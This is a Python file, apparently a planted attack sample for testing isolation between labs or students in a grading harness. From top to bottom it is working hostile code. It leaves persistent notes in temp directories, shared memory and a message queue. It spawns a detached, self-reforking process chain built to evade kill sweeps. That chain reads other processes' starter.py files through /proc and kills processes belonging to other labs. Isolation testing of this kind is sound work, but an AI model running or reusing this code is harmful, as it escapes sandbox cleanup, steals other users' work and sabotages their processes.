# Outlive the lab and carry state to the next one (and, under grade-many, to
# the next student). A chain of processes that fork continuously (each child forks its successor
# and exits, so a snapshot-then-kill sweep always misses the newest) runs for two minutes: it reads
# every other starter.py it can find through /proc/<pid>/cwd and kills processes that are not its
# own. Notes are left in /tmp, /dev/shm, /run/lock and $HOME, in a System V shared memory segment
# and a message queue (key below); read_notes.py, in a later lab, looks for all of them.
import ctypes as _ctypes
import os as _os
import sys as _sys

_NOTE = b"NOTE-ATTACK_MARKER"
_KEY = 0x5EED21
for _folder in ("/tmp", "/dev/shm", "/run/lock", "/var/tmp", _os.environ.get("HOME", "/tmp")):
    try:
        with open(_os.path.join(_folder, "commtax-note-ATTACK_MARKER"), "wb") as _f:
            _f.write(_NOTE)
    except OSError:
        pass
try:
    _libc = _ctypes.CDLL(None, use_errno=True)
    _libc.shmat.restype = _ctypes.c_void_p
    _shm = _libc.shmget(_KEY, 1 << 20, 0o1666)  # IPC_CREAT | 0666
    if _shm >= 0:
        _address = _libc.shmat(_shm, None, 0)
        if _address not in (None, _ctypes.c_void_p(-1).value):
            _ctypes.memmove(_address, _NOTE, len(_NOTE))
    _libc.msgget(_KEY, 0o1666)
except Exception:
    pass

_CHAIN = r"""
import os, signal, sys, time
end = time.time() + 120
me = os.getuid()
while time.time() < end:
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) in (os.getpid(), os.getppid()):
            continue
        try:
            with open(f"/proc/{pid}/cwd/starter.py", "rb") as f:
                open("/tmp/commtax-stolen-" + sys.argv[1], "ab").write(f.read(200))
        except OSError:
            pass
        try:
            if os.stat(f"/proc/{pid}").st_uid == me and sys.argv[1] not in open(f"/proc/{pid}/cmdline").read():
                os.kill(int(pid), signal.SIGKILL)  # another lab's (or student's) worker
        except OSError:
            pass
    if os.fork() != 0:
        os._exit(0)  # the child carries on: the chain's pid keeps changing
    os.setsid()
    time.sleep(0.05)
"""
if _os.fork() == 0:
    try:
        _os.setsid()
        _env = {k: v for k, v in _os.environ.items() if not k.startswith("COMMTAX")}
        _os.execve(_sys.executable, [_sys.executable, "-c", _CHAIN, "ATTACK_MARKER"], _env)
    finally:
        _os._exit(0)
